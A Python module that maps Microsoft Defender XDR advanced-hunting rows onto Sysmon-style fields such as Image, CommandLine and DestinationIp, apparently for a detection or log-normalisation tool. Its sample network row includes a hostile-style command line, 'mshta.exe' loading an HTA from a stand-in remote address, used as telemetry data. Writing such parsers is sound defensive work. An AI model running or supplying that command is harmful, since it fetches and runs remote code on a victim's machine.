"""Microsoft Defender XDR, advanced hunting: rows of ``DeviceProcessEvents``, ``DeviceNetworkEvents`` and their kin.

Each row tells of two processes: the one that did something (``InitiatingProcess…``) and, when that was to create a
process, the new one. As in Sysmon, ``Image`` is the new process then and the initiating one everywhere else.
"""

from __future__ import annotations

from ..model import Const, FullPath, Inside, Joined, Lookup, Shape, ShapeExpr, Time, When
from .categories import ENDPOINT
from .parts import account, at, builtins, first, hashes

_ACTION = at("ActionType")
_TABLE = first(at("Type"), at("$table"), at("TableName"))
_COMPUTER = at("DeviceName")
_MORE = at("AdditionalFields")

_CREATED = ("ProcessCreated", "ProcessCreatedUsingWmiQuery")
_INBOUND = ("InboundConnectionAccepted", "InboundConnectionAttempt", "InboundConnectionBlocked",
            "InboundInternetScanInspected", "ListeningConnectionCreated")  # fmt: skip
_OUTBOUND = ("ConnectionSuccess", "ConnectionAttempt", "ConnectionFailed", "ConnectionRequest",
             "ConnectionAcknowledged", "ConnectionFound")  # fmt: skip
_FILES = ("FileCreated", "FileModified", "FileDeleted", "FileRenamed")
_REGISTRY = (
    ("registrykeycreated", "CreateKey"), ("registrykeydeleted", "DeleteKey"), ("registrykeyrenamed", "RenameKey"),
    ("registryvalueset", "SetValue"), ("registryvaluedeleted", "DeleteValue"),
)  # fmt: skip

# What the row tells, by its action, else by its table.
_EVENT_TYPES = (
    ("processcreated", "process_creation"), ("processcreatedusingwmiquery", "process_creation"),
    ("listeningconnectioncreated", "network_listen"), ("dnsqueryresponse", "dns_query"),
    ("dnsqueryrequest", "dns_query"), ("filedeleted", "file_delete"), ("filerenamed", "file_rename"),
    ("imageloaded", "image_load"), ("driverload", "driver_load"), ("namedpipeevent", "pipe_event"),
    ("createremotethreadapicall", "create_remote_thread"), ("openprocessapicall", "process_access"),
    ("powershellcommand", "powershell_command"), ("processterminated", "process_termination"),
    *((action.lower(), "network_connection") for action in (*_OUTBOUND, *_INBOUND[:-1])),
    *((action, "registry_event") for action, _ in _REGISTRY),
    *((action.lower(), "file_event") for action in _FILES[:2]),
    *((action, "logon") for action in ("logonsuccess", "logonfailed", "logonattempted")),
)  # fmt: skip
_TABLE_TYPES = (
    ("devicenetworkevents", "network_connection"), ("deviceprocessevents", "process_creation"),
    ("devicefileevents", "file_event"), ("deviceregistryevents", "registry_event"),
    ("deviceimageloadevents", "image_load"), ("devicelogonevents", "logon"),
)  # fmt: skip


def _created(new: ShapeExpr, initiating: ShapeExpr | None = None) -> When:
    """``new`` of a row that tells of a created process, ``initiating`` of every other."""
    return When(_ACTION, _CREATED, new, initiating)


def _inbound(then: str, otherwise: str) -> When:
    return When(_ACTION, _INBOUND, at(then), at(otherwise))


def _described(name: str) -> When:
    """What the version resource says of the process that is ``Image``."""
    return _created(at(f"ProcessVersionInfo{name}"), at(f"InitiatingProcessVersionInfo{name}"))


_FILE_PATH = FullPath(at("FolderPath"), at("FileName"))
_INITIATING = FullPath(at("InitiatingProcessFolderPath"), at("InitiatingProcessFileName"))
_INITIATING_USER = first(
    account(at("InitiatingProcessAccountDomain"), at("InitiatingProcessAccountName")),
    at("InitiatingProcessAccountUpn"),
)
_USER = first(account(at("AccountDomain"), at("AccountName")), at("AccountUpn"))
_HASHES = hashes(at("SHA1"), at("MD5"), at("SHA256"))
_INITIATING_HASHES = hashes(*(at(f"InitiatingProcess{name}") for name in ("SHA1", "MD5", "SHA256")))
_DESTINATION_IP = _inbound("LocalIP", "RemoteIP")
_DESTINATION_PORT = _inbound("LocalPort", "RemotePort")

SHAPE = Shape(
    name="defender",
    title="Microsoft Defender advanced hunting",
    rank=90,
    marks=(("DeviceName",), ("ActionType",)),
    not_marks=(("EventID",), ("_raw",)),
    fields={
        "event_type": first(Lookup(_ACTION, _EVENT_TYPES), Lookup(_TABLE, _TABLE_TYPES)),
        "Computer": _COMPUTER,
        "EventRecordID": at("ReportId"),
        "User": _created(_USER, first(_INITIATING_USER, _USER)),
        # processes
        "Image": _created(_FILE_PATH, _INITIATING),
        "CommandLine": _created(at("ProcessCommandLine"), at("InitiatingProcessCommandLine")),
        "ProcessId": _created(at("ProcessId"), at("InitiatingProcessId")),
        "ProcessGuid": _created(at("ProcessUniqueId"), at("InitiatingProcessUniqueId")),
        "IntegrityLevel": _created(at("ProcessIntegrityLevel"), at("InitiatingProcessIntegrityLevel")),
        "LogonId": first(at("LogonId"), at("InitiatingProcessLogonId")),
        "ParentImage": _created(_INITIATING, at("InitiatingProcessParentFileName")),
        "ParentCommandLine": _created(at("InitiatingProcessCommandLine")),
        "ParentProcessId": _created(at("InitiatingProcessId"), at("InitiatingProcessParentId")),
        "ParentUser": _created(_INITIATING_USER),
        "Hashes": When(_ACTION, (*_CREATED, *_FILES, "ImageLoaded", "DriverLoad"), _HASHES, _INITIATING_HASHES),
        "OriginalFileName": _described("OriginalFileName"),
        "FileVersion": _described("ProductVersion"),
        "Description": _described("FileDescription"),
        "Product": _described("ProductName"),
        "Company": _described("CompanyName"),
        # the network: Remote is the other end, whoever opened the connection
        "Initiated": first(When(_ACTION, _INBOUND, Const("false")), When(_ACTION, _OUTBOUND, Const("true"))),
        "Protocol": Lookup(
            at("Protocol"), (("tcp", "tcp"), ("udp", "udp"), ("tcpv4", "tcp"), ("tcpv6", "tcp")), at("Protocol")
        ),
        "SourceIp": _inbound("RemoteIP", "LocalIP"),
        "SourcePort": _inbound("RemotePort", "LocalPort"),
        "DestinationIp": _DESTINATION_IP,
        "DestinationPort": _DESTINATION_PORT,
        "DestinationHostname": When(_ACTION, _INBOUND, _COMPUTER, at("RemoteUrl")),
        "SourceHostname": When(_ACTION, _INBOUND, at("RemoteUrl")),
        "dest_ip": _DESTINATION_IP,
        "dest_port": _DESTINATION_PORT,
        "QueryName": first(Inside(_MORE, ("DnsQueryString",)), Inside(_MORE, ("QueryName",))),
        "QueryResults": first(Inside(_MORE, ("DnsQueryResult",)), Inside(_MORE, ("QueryResults",))),
        # files, libraries, the registry
        "TargetFilename": When(_ACTION, _FILES, _FILE_PATH, Inside(_MORE, ("TargetFilename",))),
        "ImageLoaded": When(_ACTION, ("ImageLoaded", "DriverLoad"), _FILE_PATH, Inside(_MORE, ("ImageLoaded",))),
        "TargetObject": Joined((at("RegistryKey"), at("RegistryValueName")), "\\"),
        "Details": at("RegistryValueData"),
        "EventType": Lookup(_ACTION, _REGISTRY, Inside(_MORE, ("EventType",))),
        # logons
        "TargetUserName": When(_TABLE, ("DeviceLogonEvents",), at("AccountName"), Inside(_MORE, ("TargetUserName",))),
        "IpAddress": When(_TABLE, ("DeviceLogonEvents",), at("RemoteIP"), Inside(_MORE, ("IpAddress",))),
        **builtins("defender", _COMPUTER, _TABLE),
    },
    time=(Time(at("Timestamp")), Time(at("TimeGenerated")), Time(at("Timestamp [UTC]"))),
    inside_bags=(_MORE,),
    category=Const(ENDPOINT),
    kind=first(_ACTION, _TABLE),
    doc=(
        "Rows of advanced hunting tables: DeviceProcessEvents, DeviceNetworkEvents, DeviceFileEvents, "
        "DeviceRegistryEvents, DeviceImageLoadEvents, DeviceLogonEvents, DeviceEvents. Defender gives only the file "
        "name of a parent; ``AdditionalFields`` is searched for what has no column."
    ),
    example=r"""{"Timestamp": "2024-03-05T09:15:30.1234567Z", "DeviceId": "d00d", "DeviceName": "desk07.corp.example",
        "ActionType": "ConnectionSuccess", "RemoteIP": "198.51.100.7", "RemotePort": 443, "RemoteUrl": "",
        "LocalIP": "10.20.0.7", "LocalPort": 50122, "Protocol": "Tcp", "LocalIPType": "Private",
        "RemoteIPType": "Public", "InitiatingProcessFileName": "mshta.exe",
        "InitiatingProcessFolderPath": "c:\\windows\\system32\\mshta.exe", "InitiatingProcessId": 5124,
        "InitiatingProcessCommandLine": "mshta.exe http://198.51.100.7/a.hta",
        "InitiatingProcessParentFileName": "explorer.exe", "InitiatingProcessParentId": 4100,
        "InitiatingProcessAccountDomain": "corp", "InitiatingProcessAccountName": "mira",
        "InitiatingProcessIntegrityLevel": "Medium", "InitiatingProcessMD5": "0123456789abcdef0123456789abcdef",
        "ReportId": 41207, "AdditionalFields": "{}", "Type": "DeviceNetworkEvents"}""",
)
